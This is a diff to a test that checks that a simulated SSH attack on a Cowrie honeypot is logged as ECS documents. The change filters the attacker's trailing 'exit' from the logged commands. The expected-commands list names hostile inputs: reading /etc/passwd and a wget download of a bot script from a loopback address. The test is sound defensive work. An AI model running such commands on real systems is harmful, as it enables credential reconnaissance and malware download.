@@ -103,7 +103,8 @@ test('a real SSH attack on Cowrie lands in logs-cowrie-<ns> as ECS', { skip }, a
   assert.equal(success[0]!.user.name, 'admin');
   assert.equal(success[0]!.event.outcome, 'success');
 
-  const commands = byAction('cowrie.command.input').map((d) => d.process?.command_line);
+  // The attacker's closing `exit` is logged too when Cowrie reads it before the channel closes.
+  const commands = byAction('cowrie.command.input').map((d) => d.process?.command_line).filter((c) => c !== 'exit');
   assert.deepEqual(commands.sort(), ['cat /etc/passwd', 'uname -a', 'wget http://127.0.0.1:9/bot.sh'].sort());
   assert.equal(byAction('cowrie.session.connect').length, 3);
   for (const d of docs) {
